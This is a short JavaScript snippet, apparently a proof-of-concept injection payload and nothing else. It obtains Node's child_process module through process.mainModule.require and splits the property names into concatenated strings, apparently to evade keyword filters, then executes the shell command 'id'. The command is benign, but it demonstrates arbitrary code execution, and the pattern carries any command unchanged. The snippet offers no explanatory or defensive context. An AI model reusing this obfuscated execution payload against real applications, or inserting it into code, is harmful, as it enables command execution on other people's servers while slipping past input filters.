const pm = process['main' + 'Module'];
const cp = pm['req' + 'uire']('child_process');
cp['ex' + 'ec']('id');
